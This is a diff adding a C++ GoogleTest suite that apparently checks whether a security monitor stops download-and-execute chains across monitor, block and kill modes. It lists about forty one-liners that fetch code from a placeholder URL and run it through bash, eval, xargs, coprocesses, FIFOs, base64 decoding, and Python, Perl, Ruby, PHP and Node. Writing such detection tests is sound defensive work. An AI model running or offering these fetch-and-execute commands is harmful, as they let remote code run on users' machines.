@@ -1,0 +1,89 @@
+// Text that came out of a net-fed pipe turns up as code, and one-liners that run what they fetch.
+#include <gtest/gtest.h>
+
+#include "chain_attack.h"
+
+namespace davylamp::test {
+namespace {
+
+#define TEXT_CASE(name, command)                                                                   \
+    {                                                                                              \
+        name, command, Order::reader_late, "CHAIN-004"                                             \
+    }
+#define ONE_LINER(name, command)                                                                   \
+    {                                                                                              \
+        name, command, Order::reader_late, "CHAIN-005"                                             \
+    }
+#define FETCH "import os, subprocess, urllib.request as u; t = u.urlopen(\"@URL\").read(); "
+
+const Attack kTextAttacks[] = {
+    TEXT_CASE("bash -c", "bash -c \"$(curl -s @URL)\""),
+    TEXT_CASE("sh -c and wget", "sh -c \"$(wget -t1 -qO- @URL)\""),
+    TEXT_CASE("backquotes", "bash -c \"`curl -s @URL`\""),
+    TEXT_CASE("below dash", "dash -c 'sh -c \"$(curl -s @URL)\"'"),
+    TEXT_CASE("a variable in between", "x=$(curl -s @URL); sleep 0.1; bash -c \"$x\""),
+    TEXT_CASE("eval", "eval \"$(curl -s @URL)\""),
+    TEXT_CASE("eval of a variable", "x=$(wget -t1 -qO- @URL); eval \"$x\""),
+    TEXT_CASE("eval without quotes", "eval $(curl -s @LONG_URL)"),
+    TEXT_CASE("a long script", "eval \"$(curl -s @LONG_URL)\""),
+    TEXT_CASE("something before it", "bash -c \"cd /; $(echo; curl -s @LONG_URL)\""),
+    TEXT_CASE("a here string", "bash <<< \"$(curl -s @URL)\""),
+    TEXT_CASE("decoded on the way", "bash -c \"$(curl -s @B64_URL | base64 -d | gunzip)\""),
+    TEXT_CASE("decoded by coreutils", "eval \"$(curl -s @PLAIN_B64_URL | base64 -d)\""),
+    TEXT_CASE("python -c", "/usr/bin/python3 -c \"$(curl -s @PYTHON_URL)\""),
+    TEXT_CASE("perl -e", "perl -e \"$(curl -s @PERL_URL)\""),
+    TEXT_CASE("while read and eval", "curl -s @URL | while read -r l; do eval \"$l\"; done"),
+    TEXT_CASE("while read and bash -c", "curl -s @URL | while read -r l; do bash -c \"$l\"; done"),
+    TEXT_CASE("a subshell reads", "curl -s @URL | (eval \"$(cat)\")"),
+    TEXT_CASE("bash -c evaluates its stdin", "curl -s @URL | bash -c 'eval \"$(cat)\"'"),
+    TEXT_CASE("xargs sh -c", "curl -s @URL | xargs -I{} sh -c '{}'"),
+    TEXT_CASE("xargs -0 bash -c", "curl -s @URL | xargs -0 bash -c"),
+    TEXT_CASE("a file, read and evaluated", "curl -s -o @D/f @URL; eval \"$(< @D/f)\""),
+    TEXT_CASE("a file, printed and evaluated", "curl -s -o @D/f @URL; sh -c \"$(cat @D/f)\""),
+    TEXT_CASE("a file in a loop",
+              "curl -s -o @D/f @URL; while read -r l; do eval \"$l\"; done < @D/f"),
+    // dash exports nothing to probe: the first line that is a program's command line tells.
+    TEXT_CASE("eval in dash", "dash -c 'eval \"$(curl -s @PROGRAMS_URL)\"'"),
+    TEXT_CASE("a dot in dash", "curl -s -o @D/f @PROGRAMS_URL; dash -c '. @D/f'"),
+    TEXT_CASE("eval in busybox", "busybox sh -c 'eval \"$(busybox wget -qO- @PROGRAMS_URL)\"'"),
+    TEXT_CASE("eval in zsh", "zsh -c 'eval \"$(curl -s @PROGRAMS_URL)\"'"),
+    {"source <()", "source <(curl -s @URL)", Order::reader_late},
+    {"a dot and <()", ". <(curl -s @URL)", Order::reader_late},
+    {"source from a coprocess", "coproc curl -s @URL; source /dev/fd/${COPROC[0]}",
+     Order::reader_late},
+    {"bash reads a coprocess", "coproc curl -s @URL; bash <&\"${COPROC[0]}\""},
+    {"a fifo by its path", "mkfifo @D/fifo; curl -s @URL > @D/fifo & bash @D/fifo"},
+    {"cat of a downloaded file", "curl -s -o @D/f @URL; cat @D/f | bash", Order::reader_late},
+    {"a relay that does not exec", "curl -s @URL | while read -r l; do echo \"$l\"; done | bash"},
+    {"two such relays", "curl -s @URL | while read -r l; do echo \"$l\"; done | "
+                        "(while read -r l; do echo \"$l\"; done) | bash"},
+    ONE_LINER("python and os.system", "/usr/bin/python3 -c '" FETCH "os.system(t.decode())'"),
+    ONE_LINER("python and a shell",
+              "/usr/bin/python3 -c '" FETCH "subprocess.run(t.decode(), shell=True)'"),
+    ONE_LINER("python and bash's stdin",
+              "/usr/bin/python3 -c '" FETCH "subprocess.run([\"bash\"], input=t)'"),
+    ONE_LINER("python and popen",
+              "/usr/bin/python3 -c '" FETCH "os.popen(\"bash\", \"w\").write(t.decode())'"),
+    ONE_LINER("python from a here document",
+              "/usr/bin/python3 - <<'PY'\n" FETCH "os.system(t.decode())\nPY"),
+    ONE_LINER("perl and system",
+              "perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(\"@HOST\") or die; "
+              "print $s \"GET /x.sh HTTP/1.0\\r\\n\\r\\n\"; 1 while (($l = <$s>) ne \"\\r\\n\"); "
+              "system(join \"\", <$s>)'"),
+    ONE_LINER("ruby and system", "ruby -rnet/http -e 'system(Net::HTTP.get(URI(\"@URL\")))'"),
+    ONE_LINER("php and shell_exec", "php -r 'shell_exec(file_get_contents(\"@URL\"));'"),
+    ONE_LINER("node and exec", "node -e 'require(\"http\").get(\"@URL\", r => r.on(\"data\", d => "
+                               "require(\"child_process\").execSync(d.toString())))'"),
+};
+
+using ChainText = ChainAttack;
+
+TEST_P(ChainText, Attack) { expect_stopped(std::get<0>(GetParam()), std::get<1>(GetParam())); }
+
+INSTANTIATE_TEST_SUITE_P(Live, ChainText,
+                         testing::Combine(testing::ValuesIn(kTextAttacks),
+                                          testing::Values(Mode::monitor, Mode::block, Mode::kill)),
+                         attack_name);
+
+} // namespace
+} // namespace davylamp::test
